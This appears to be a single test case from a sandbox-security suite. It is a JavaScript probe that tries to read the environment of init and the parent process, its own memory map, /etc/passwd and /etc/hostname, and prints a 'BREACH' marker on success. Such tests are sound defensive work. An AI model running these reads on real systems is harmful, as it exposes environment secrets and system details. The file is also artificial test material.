// id: js-n-101 | family: proc | goal: read the environment and memory map of the parent and of init
// timeout: 5
const P = globalThis.process || (() => { try { return (() => {}).constructor('return process')(); } catch { return undefined; } })();
const fs = (() => { try { return require('fs'); } catch { } try { return P.getBuiltinModule('fs'); } catch { } })();
for (const f of ['/proc/1/environ', `/proc/${P?.ppid}/environ`, '/proc/self/environ', '/proc/self/maps', '/etc/passwd', '/etc/hostname'])
  try { const t = fs.readFileSync(f, 'utf8'); if (t.length) console.log('BREACH' + '_@@NONCE@@', t); } catch (e) { console.log(String(e)); }
